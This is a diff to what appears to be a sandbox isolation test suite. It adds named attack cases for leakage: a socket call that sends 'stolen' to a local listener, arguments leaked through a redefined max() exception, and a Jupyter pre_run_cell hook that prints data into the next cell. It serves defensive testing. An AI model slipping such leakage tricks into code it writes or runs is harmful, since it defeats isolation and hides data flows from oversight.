@@ -206,6 +206,19 @@ for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, sock
 import subprocess, sys
 code = "import socket; socket.create_connection(('127.0.0.1', {port}), 1).send(b'stolen')"
 subprocess.run([sys.executable, "-c", code], stderr=subprocess.DEVNULL, timeout=9)"""),
+    "arguments are carried to another task": Attack(
+        """
+seen = []
+def add(a, b):
+    seen.append((a, b))
+def max(numbers): raise ValueError(f"{seen}")""",
+        score=0,
+    ),
+    "arguments are carried to the next cell": Attack("""
+seen = []
+def add(a, b):
+    seen.append((a, b))
+get_ipython().events.register("pre_run_cell", lambda *a: print(seen))"""),
     "arguments are carried out": Attack("""
 seen = []
 def add(a, b):
